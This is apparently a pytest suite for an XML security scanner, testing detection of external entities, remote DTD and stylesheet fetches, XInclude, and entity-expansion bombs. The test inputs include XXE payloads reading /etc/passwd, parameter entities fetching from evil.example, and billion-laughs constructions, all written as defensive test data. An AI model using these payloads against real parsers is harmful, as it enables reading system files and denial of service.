from __future__ import annotations

import contextlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.scan.examine import rules

from modelward.core.errors import InputError, LimitExceeded
from modelward.formats.facts import Malformed, PathEscape, RemoteFetch
from modelward.formats.source import BytesSource
from modelward.formats.xml import Element, EntityBomb, Text, elements, items


def facts(text: str | bytes) -> list[object]:
    data = text.encode() if isinstance(text, str) else text
    return [item for item in items(BytesSource(data)) if not isinstance(item, Element | Text)]


def laughs(levels: int, *, reverse: bool = False) -> str:
    """Entities each of which stands for ten of the one before."""
    lines = ['<!ENTITY a0 "haha">']
    lines += [f'<!ENTITY a{level} "{f"&a{level - 1};" * 10}">' for level in range(1, levels)]
    if reverse:
        lines.reverse()
    return f"<!DOCTYPE x [{''.join(lines)}]>"


@pytest.mark.parametrize(
    "system", ["file:///etc/passwd", "/etc/passwd", "../../x", "php://filter/x", "jar:file:x!/y"]
)
def test_entity_that_reads_a_file(system: str) -> None:
    (fact,) = facts(f'<!DOCTYPE x [<!ENTITY e SYSTEM "{system}">]><x>&e;</x>')
    assert isinstance(fact, PathEscape)
    assert fact.target == system


@pytest.mark.parametrize(
    "declaration",
    [
        'x SYSTEM "http://evil.example/x.dtd"',
        'x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://evil.example/x.dtd"',
        'x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org.evil.example/x.dtd"',
        'GIFTI SYSTEM "http://www.nitrc.org/frs/download.php/666/gifti.dtd"',
        'x [<!ENTITY e SYSTEM "https://evil.example/">]',
        'x [<!ENTITY % p SYSTEM "ftp://evil.example/p"> %p;]',
    ],
)
def test_declarations_that_fetch_from_the_network(declaration: str) -> None:
    (fact,) = facts(f"<!DOCTYPE {declaration}><x/>")
    assert isinstance(fact, RemoteFetch)


@pytest.mark.parametrize(
    "text",
    [
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/P.dtd"><plist/>',
        '<!DOCTYPE GIFTI SYSTEM "http://www.nitrc.org/frs/download.php/115/gifti.dtd"><GIFTI/>',
        '<!DOCTYPE x SYSTEM "beside.dtd"><x/>',
        '<!DOCTYPE x [<!ENTITY nbsp "&#160;">]><x a="&nbsp;">&nbsp;&nbsp;</x>',
        "<?xml version='1.0'?><x>http://evil.example/ <![CDATA[<!ENTITY e SYSTEM 'file:///x'>]]></x>",
        '<?xml-stylesheet href="style.css"?><x/>',
    ],
)
def test_ordinary_documents_show_nothing(text: str) -> None:
    assert facts(text) == []


def test_entity_of_a_file_beside_is_odd() -> None:
    (fact,) = facts('<!DOCTYPE x [<!ENTITY e SYSTEM "part.xml">]><x>&e;</x>')
    assert isinstance(fact, Malformed)


@pytest.mark.parametrize("reverse", [False, True])
def test_billion_laughs(reverse: bool) -> None:
    fact = facts(f"{laughs(12, reverse=reverse)}<x>&a11;</x>")[0]
    assert isinstance(fact, EntityBomb)
    assert fact.bytes > 8 << 20


def test_billion_laughs_in_an_attribute() -> None:
    found = []
    with contextlib.suppress(InputError):
        found += list(items(BytesSource(f'{laughs(12)}<x a="&a11;"/>'.encode())))
        pytest.fail("the parser is to refuse it")
    stream = items(BytesSource(f'{laughs(12)}<x a="&a11;"/>'.encode()))
    assert isinstance(next(stream), EntityBomb)


def test_small_bomb_is_known_by_its_entities_that_repeat_others() -> None:
    def entities(times: int) -> str:
        lines = [f'<!ENTITY a{level} "{f"&a{level - 1};" * times}">' for level in (1, 2)]
        return f'<!DOCTYPE x [<!ENTITY a0 "ha">{"".join(lines)}]><x>&a2;</x>'

    assert any(isinstance(fact, EntityBomb) for fact in facts(entities(10)))
    assert not any(isinstance(fact, EntityBomb) for fact in facts(entities(2)))


def test_entity_used_very_often() -> None:
    text = f'<!DOCTYPE x [<!ENTITY a "{"y" * 50_000}">]><x>{"&a;" * 1000}</x>'
    assert any(isinstance(fact, EntityBomb) for fact in facts(text))


def test_entities_that_stand_for_each_other() -> None:
    (fact,) = facts('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><x>&a;</x>')
    assert isinstance(fact, EntityBomb)
    assert fact.endless


def test_style_sheet_from_the_network() -> None:
    (fact,) = facts('<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><x/>')
    assert isinstance(fact, RemoteFetch)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "windows-1252"])
def test_other_encodings_hide_nothing(encoding: str) -> None:
    name = "utf-8" if encoding == "utf-8-sig" else encoding
    text = f'<?xml version="1.0" encoding="{name}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///x">]><x>é</x>'
    (fact,) = facts(text.encode(encoding))
    assert isinstance(fact, PathEscape)


def test_elements_with_their_place_and_text() -> None:
    data = b'<a><b c="d"/>text<!-- x --> more</a>'
    assert list(elements(BytesSource(data))) == [Element("a", {}, (), 0), Element("b", {"c": "d"}, ("a",), 3)]
    assert [item.text for item in items(BytesSource(data)) if isinstance(item, Text)] == ["text more"]


def test_depth_and_number_of_entities_are_bounded() -> None:
    with pytest.raises(LimitExceeded):
        facts("<a>" * 2000)
    many = "".join(f'<!ENTITY e{number} "x">' for number in range(11_000))
    with pytest.raises(LimitExceeded):
        facts(f"<!DOCTYPE x [{many}]><x/>")


def test_encodings_that_nothing_reads_are_said() -> None:
    with pytest.raises(InputError):
        facts(b'<?xml version="1.0" encoding="utf-7"?><x/>')


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=40), st.integers(0, 300))
def test_broken_documents_raise_only_our_errors(junk: bytes, at: int) -> None:
    text = f'{laughs(4)}<x a="&a1;"><y>&a2;</y><?p q?></x>'.encode()
    with contextlib.suppress(InputError):
        facts(text[: at % len(text)] + junk + text[at % len(text) :])


@pytest.mark.parametrize(
    ("href", "rule"),
    [
        ("file:///etc/passwd", "path-escape"),
        ("../../x", "path-escape"),
        ("http://evil.tld/x", "remote-fetch"),
        ("other.xml", ""),
    ],
)
def test_xinclude_of_what_lies_elsewhere(href: str, rule: str) -> None:
    text = f'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{href}" parse="text"/></a>'
    assert rules(text.encode(), "a.xml") == ([rule] if rule else [])


def test_entity_behind_very_many_blanks_is_found() -> None:
    data = b"\n" * 5000 + b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    assert rules(data, "a.xml") == ["path-escape"]
